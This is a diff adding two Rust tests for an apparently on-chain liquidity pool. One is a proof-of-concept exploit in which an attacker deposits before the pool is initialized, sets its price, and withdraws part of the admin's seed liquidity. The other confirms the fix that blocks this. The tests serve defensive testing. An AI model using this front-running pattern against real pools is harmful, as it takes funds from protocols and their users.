@@ -0,0 +1,53 @@
+#[tokio::test]
+async fn test_liquidity_before_initialize_exploit() {
+    println!("\n=== EXPLOIT: First Depositor Sets The Listing Price ===\n");
+
+    let admin = Keypair::new();
+    let mallory = Keypair::new();
+    let (mint_a, mint_b) = create_mints().await;
+    initialize_config(&admin).await;
+
+    println!("1. Mallory front-runs the listing: 1,000 A + 100,000 B");
+    // Vulnerable: pool created by add_liquidity, no is_initialized check
+    add_liquidity(&mallory, &mint_a, &mint_b, 1_000, 100_000).await.unwrap();
+
+    println!("\n2. Admin lists the pair with 1,000,000 A + 1,000,000 B");
+    initialize_pool(&admin, &mint_a, &mint_b, 1_000_000, 1_000_000).await.unwrap();
+    let admin_lp = get_position(&pool_pda(&mint_a, &mint_b), &admin.pubkey()).await.lp_balance;
+    assert_eq!(admin_lp, 10_000);
+
+    println!("\n3. Mallory withdraws her 1,000 of 11,000 LP");
+    withdraw_all(&mallory, &mint_a, &mint_b).await.unwrap();
+    let out_a = get_token_balance(&user_token(&mallory, &mint_a)).await;
+    let out_b = get_token_balance(&user_token(&mallory, &mint_b)).await;
+    assert_eq!((out_a, out_b), (91_000, 100_000));
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ ~$191k out for $101k in, taken from the protocol's seed liquidity");
+}
+
+#[tokio::test]
+async fn test_add_liquidity_requires_initialized_pool() {
+    println!("\n=== SECURITY: Liquidity Only After initialize_pool ===\n");
+
+    let admin = Keypair::new();
+    let mallory = Keypair::new();
+    let (mint_a, mint_b) = create_mints().await;
+    initialize_config(&admin).await;
+
+    println!("1. Mallory adds liquidity before the listing");
+    let result = add_liquidity(&mallory, &mint_a, &mint_b, 1_000, 100_000).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: AccountNotInitialized");
+
+    println!("\n2. Admin lists the pair at 1:1");
+    initialize_pool(&admin, &mint_a, &mint_b, 1_000_000, 1_000_000).await.unwrap();
+    let pool = get_pool(&pool_pda(&mint_a, &mint_b)).await;
+    assert!(pool.is_initialized);
+    assert_eq!(pool.lp_supply, 1_000_000);
+    println!("   ✓ Seed liquidity minted 1,000,000 LP");
+
+    println!("\n3. Mallory adds liquidity at the listed ratio");
+    add_liquidity(&mallory, &mint_a, &mint_b, 1_000, 1_000).await.unwrap();
+    println!("   ✓ 1,000 LP at the admin's price");
+}